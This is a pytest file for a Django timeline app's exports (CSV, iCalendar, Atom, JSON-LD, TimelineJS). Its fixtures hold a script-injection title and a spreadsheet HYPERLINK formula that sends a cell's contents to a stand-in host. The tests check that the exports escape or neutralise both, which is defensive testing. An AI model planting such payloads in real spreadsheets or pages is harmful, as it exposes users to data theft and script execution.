"""The timeline's other forms: the same events in the same order, each form valid and harmless."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any
from xml.etree import ElementTree

import icalendar
import pytest
from django.db.models import F
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import make_article, make_event, make_source
from timeline.exports.calendars import _folded
from timeline.exports.tables import harmless
from timeline.exports.views import FORMATS
from timeline.models import Event

ATOM = "{http://www.w3.org/2005/Atom}"
FORMULA = '=HYPERLINK("http://example.org/"&A1,"Støre")'


def day(number: int) -> dt.date:
    return dt.date(2022, 1, number)


@pytest.fixture
def story(db) -> dict[str, Any]:
    hostile = make_article(
        published=day(27),
        text="<b>“NATO” said</b> ]]> & <script>1</script>",
        title="</script><script>alert(1)</script>",
        source=make_source("nrk", name="NRK; Oslo, Norge"),
    )
    return {
        "month": make_event(
            headline="Troops gather", day=day(1), date_edtf="2022-01", latest_on=day(31), precision="month", type="MOBILIZE", quad="material-conflict"
        ),
        "week": make_event(
            headline="A ship sails, some day",
            day=day(10),
            date_edtf="[2022-01-10..2022-01-16]",
            latest_on=day(16),
            precision="week",
        ),
        "visit": make_event(headline="A visit", day=day(24), date_edtf="2022-01-24/2022-01-26", latest_on=day(26), precision="interval"),
        "formula": make_event(headline=FORMULA, articles=(make_article(), hostile), modality="planned"),
        "undated": make_event(headline="Nobody says when", day=None),
    }


def body(api, form: str, **query: Any) -> bytes:
    response = api.at("events/", format=form, **query)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def calendar(api, **query: Any) -> list[Any]:
    return list(icalendar.Calendar.from_ical(body(api, "ics", **query)).walk("VEVENT"))


def ids(api, form: str, **query: Any) -> list[str]:
    if form == "ics":
        return [str(event["UID"]).partition("@")[0] for event in calendar(api, **query)]
    content = body(api, form, **query).decode("utf-8-sig")
    if form == "csv":
        return [row["id"] for row in csv.DictReader(io.StringIO(content, newline=""))]
    if form == "jsonl":
        return [json.loads(line)["id"] for line in content.splitlines()]
    if form == "atom":
        return [entry.findtext(f"{ATOM}id").rpartition("/")[2] for entry in ElementTree.fromstring(content).iter(f"{ATOM}entry")]
    if form == "jsonld":
        return [event["@id"].split("/")[-2] for event in json.loads(content)["@graph"]]
    return [slide["unique_id"] for slide in json.loads(content)["events"]]


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize(
    "query", [{}, {"ordering": "-date"}, {"type": "mobilize"}, {"q": "støre"}, {"as_of": "2022-01-25"}, {"date_from": "2022-01-20"}], ids=str
)
def test_every_form_holds_the_same_events_in_the_same_order(api, story, form, query):
    left_out = {"ics": {"month", "week", "undated"}, "timelinejs": {"undated"}}.get(form, set())
    left_out_ids = {story[name].event.uid for name in left_out}
    assert ids(api, form, **query) == [uid for uid in api.ids("events/", **query) if uid not in left_out_ids]


@pytest.mark.parametrize("form", FORMATS)
def test_the_extension_gives_what_the_api_gives(api, story, form):
    response = api.get(f"/timeline.{FORMATS[form].extension}", {"type": "REJECT", "zoom": "week"})
    assert response["Content-Type"] == FORMATS[form].media_type
    page, call = b"".join(response.streaming_content), body(api, form, type="REJECT")
    assert page.count(b"2022") and len(page) > 100
    if form != "atom":  # whose id is its own address
        assert page == call


@pytest.mark.parametrize("form", FORMATS)
def test_a_wrong_filter_is_named(api, db, form):
    for response in (api.at("events/", format=form, typo=1), api.get(f"/timeline.{FORMATS[form].extension}", {"typo": 1})):
        assert response.status_code == 400
        assert response.json()["unknown_params"] == ["typo"]
    assert api.at("events/", format=form, date_from="x").json()["date_from"]


@pytest.mark.parametrize("form", FORMATS)
def test_an_empty_list_is_a_valid_file(api, db, form):
    assert ids(api, form) == []


@pytest.mark.parametrize("form", FORMATS)
def test_many_events_take_few_queries(api, db, form, django_assert_max_num_queries):
    articles = (make_article(), make_article())
    for _ in range(30):
        make_event(articles=articles)
    with django_assert_max_num_queries(6):
        assert len(ids(api, form)) == 30


def test_no_cell_can_run(api, story):
    content = body(api, "csv", rows="evidence").decode()
    for row in csv.reader(io.StringIO(content, newline="")):
        assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert "Støre" in content


@given(st.text())
def test_harmless_text_never_begins_a_formula(text):
    assert not harmless(text).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_csv_has_one_row_for_each_report_when_asked(api, story):
    rows = list(csv.DictReader(io.StringIO(body(api, "csv", rows="evidence", q="støre").decode(), newline="")))
    assert [row["quote"] for row in rows] == ["NATO answered Russia on Wednesday.", "<b>“NATO” said</b> ]]> & <script>1"]
    assert rows[1]["source"] == "NRK; Oslo, Norge"


def test_csv_begins_with_a_byte_order_mark_only_when_asked(api, story):
    assert body(api, "csv", bom="on").startswith(b"\xef\xbb\xbf")
    assert body(api, "csv").startswith(b"id,")


def test_calendar_days_are_whole_and_end_the_day_after(api, story):
    visit, planned = calendar(api)
    assert (visit.decoded("DTSTART"), visit.decoded("DTEND")) == (day(24), day(27))
    assert (planned.decoded("DTSTART"), planned.decoded("DTEND")) == (day(26), day(27))
    assert (visit["STATUS"], planned["STATUS"]) == ("CONFIRMED", "TENTATIVE")
    assert planned["SUMMARY"] == FORMULA
    assert "NRK; Oslo, Norge: “<b>“NATO” said" in planned["DESCRIPTION"]
    assert (visit["TRANSP"], visit["X-EDTF"]) == ("TRANSPARENT", "2022-01-24/2022-01-26")


def test_calendar_takes_imprecise_events_when_asked_and_names_them_so(api, story):
    month = calendar(api, imprecise="on")[0]
    assert month["SUMMARY"] == "January 2022 (day not given): Troops gather"
    assert month["STATUS"] == "TENTATIVE"
    assert len(calendar(api, imprecise="on")) == 4


def test_calendar_sequence_grows_with_an_edit(api, story):
    before = calendar(api)[0]["SEQUENCE"]
    Event.objects.update(updated_at=F("created_at") + dt.timedelta(days=1))
    assert calendar(api)[0]["SEQUENCE"] > before


def test_a_rejected_event_is_cancelled_in_the_calendar(api, db):
    make_event(status="rejected")
    assert [event["STATUS"] for event in calendar(api, status="rejected")] == ["CANCELLED"]


def test_calendar_lines_are_short_and_end_in_crlf(api, story):
    lines = body(api, "ics").split(b"\r\n")
    assert lines[-1] == b""
    assert all(len(line) <= 75 and b"\n" not in line for line in lines)


@given(st.text(st.characters(codec="utf-8"), max_size=300))
def test_folding_loses_nothing(text):
    stretches = list(_folded(text))
    assert all(len(stretch.encode()) <= 75 for stretch in stretches)
    assert stretches[0] + "".join(stretch[1:] for stretch in stretches[1:]) == text


def test_the_feed_says_when_records_changed_and_titles_say_when_it_happened(api, story):
    feed = ElementTree.fromstring(body(api, "atom"))
    entry = next(feed.iter(f"{ATOM}entry"))
    state = story["month"]
    assert entry.findtext(f"{ATOM}title") == "January 2022 (day not given): Troops gather"
    assert entry.findtext(f"{ATOM}id") == f"tag:testserver,2022:events/{state.event.uid}"
    assert entry.findtext(f"{ATOM}updated").startswith(state.event.updated_at.strftime("%Y-%m-%dT%H:%M"))
    assert {"MOBILIZE", "2022-01"} <= {category.get("term") for category in entry.iter(f"{ATOM}category")}
    assert [link.get("rel") for link in feed.findall(f"{ATOM}link")] == ["alternate", "self"]
    assert feed.find(f"{ATOM}author") is not None


def test_linked_data_claims_no_more_than_the_text(api, story):
    content = body(api, "jsonld")
    assert b"</script" not in content
    dates = [(event.get("startDate"), event.get("endDate")) for event in json.loads(content)["@graph"]]
    assert dates == [("2022-01", None), (None, None), ("2022-01-24", "2022-01-26"), ("2022-01-26", None), (None, None)]
    report = json.loads(content)["@graph"][3]["subjectOf"][1]
    assert report["headline"] == "</script><script>alert(1)</script>"
    assert report["hasPart"]["text"].startswith("<b>“NATO”")


def test_slides_leave_out_what_is_not_known_and_escape_what_is(api, story):
    month, week, visit, formula = json.loads(body(api, "timelinejs"))["events"]
    assert month["start_date"] == {"year": 2022, "month": 1}
    assert "end_date" not in month
    assert month["display_date"] == "January 2022 (day not given)"
    assert (week["start_date"]["day"], week["end_date"]["day"]) == (10, 16)
    assert (visit["start_date"]["day"], visit["end_date"]["day"]) == (24, 26)
    assert formula["autolink"] is False
    assert "<script" not in formula["text"]["text"]
    assert "&lt;b&gt;“NATO”" in formula["text"]["text"]
    assert formula["text"]["headline"].startswith("=HYPERLINK(&quot;")


@pytest.mark.parametrize(
    ("edtf", "first", "last", "in_calendar", "status", "slide", "linked"),
    [
        (
            "2021-11/2022-01",
            dt.date(2021, 11, 1),
            day(31),
            False,
            "TENTATIVE",
            ({"year": 2021, "month": 11}, {"year": 2022, "month": 1}),
            ("2021-11", "2022-01"),
        ),
        (
            "2022-01-24~/2022-01-26",
            day(24),
            day(26),
            True,
            "TENTATIVE",
            ({"year": 2022, "month": 1, "day": 24}, {"year": 2022, "month": 1, "day": 26}),
            ("2022-01-24", "2022-01-26"),
        ),
        (
            "[2022-01-24..2022-01-26]",
            day(24),
            day(26),
            False,
            "TENTATIVE",
            ({"year": 2022, "month": 1, "day": 24}, {"year": 2022, "month": 1, "day": 26}),
            (None, None),
        ),
    ],
    ids=["months", "about", "once in between"],
)
def test_spans_are_as_precise_as_their_ends(api, db, edtf, first, last, in_calendar, status, slide, linked):
    make_event(day=first, latest_on=last, date_edtf=edtf, precision="interval")
    assert len(calendar(api)) == in_calendar
    (event,) = calendar(api, imprecise="on")
    assert event["STATUS"] == status
    (drawn,) = json.loads(body(api, "timelinejs"))["events"]
    assert (drawn["start_date"], drawn["end_date"]) == slide
    (described,) = json.loads(body(api, "jsonld"))["@graph"]
    assert (described.get("startDate"), described.get("endDate")) == linked
